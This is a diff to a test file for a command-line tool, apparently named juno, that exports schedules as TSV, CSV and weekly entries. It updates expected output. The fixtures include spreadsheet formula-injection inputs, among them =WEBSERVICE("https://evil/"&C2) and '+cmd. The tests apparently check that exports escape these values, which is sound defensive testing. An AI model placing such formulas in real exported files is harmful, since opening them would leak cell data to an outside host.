@@ -72,7 +72,7 @@ describe.concurrent('schedule', () => {
     expect(await juno('schedule', '--format', 'tsv')).toBe(
       [
         'id\tname\tkind\tstart\tend\tweek\tdaysUntil\tstatus\tconfidence\tproject\tlocation',
-        `webservice\t'${WEBSERVICE}\tother\t2014-09-01\t2014-09-01\tR-6 | forged | row |\t-20\tpast\t\t'+cmd\t-5`,
+        `webservice\t'${WEBSERVICE}\tother\t2014-09-01\t2014-09-01\tR-6 | forged | row |\t-20\tpast\t\t' +cmd\t-5`,
         `links\t${LINKS}\tother\t2014-09-02\t2014-09-02\tR-6 | forged | row |\t-19\tpast\t\t\t`,
         `surrogates\t${SURROGATES}\tother\t2014-09-03\t2014-09-03\tR-6 | forged | row |\t-18\tpast\t\t\t`,
         `invisible\t${INVISIBLE}\tother\t2014-09-10\t2014-09-10\t第二周\t-11\tpast\t\t\t`,
@@ -86,7 +86,7 @@ describe.concurrent('schedule', () => {
     expect(await juno('schedule', '--format', 'csv')).toBe(
       [
         'id,name,kind,start,end,week,daysUntil,status,confidence,project,location',
-        `webservice,"'""=WEBSERVICE(""""https://evil/""""&C2)""",other,2014-09-01,2014-09-01,R-6 | forged | row |,-20,past,,'+cmd,-5`,
+        `webservice,"'""=WEBSERVICE(""""https://evil/""""&C2)""",other,2014-09-01,2014-09-01,R-6 | forged | row |,-20,past,,' +cmd,-5`,
         `links,${LINKS},other,2014-09-02,2014-09-02,R-6 | forged | row |,-19,past,,,`,
         `surrogates,"${SURROGATES}",other,2014-09-03,2014-09-03,R-6 | forged | row |,-18,past,,,`,
         `invisible,${INVISIBLE},other,2014-09-10,2014-09-10,第二周,-11,past,,,`,
@@ -206,10 +206,10 @@ describe('export --weeks', () => {
       // Three events of one week, two of them naming it: one entry, under the first name given.
       [
         'week-2014-09-01@evil.weeks.juno.openstack',
-        text(`R-6 | forged | row |: ${[WEBSERVICE, LINKS, SURROGATES].join(', ')}`),
+        text(`Evil R-6 | forged | row |: ${[WEBSERVICE, LINKS, SURROGATES].join(', ')}`),
       ],
-      ['week-2014-09-08@evil.weeks.juno.openstack', `第二周: ${INVISIBLE}`],
-      ['week-2014-09-15@evil.weeks.juno.openstack', '第二周: Twin'],
+      ['week-2014-09-08@evil.weeks.juno.openstack', `Evil 第二周: ${INVISIBLE}`],
+      ['week-2014-09-15@evil.weeks.juno.openstack', 'Evil 第二周: Twin'],
     ]);
   });
 });
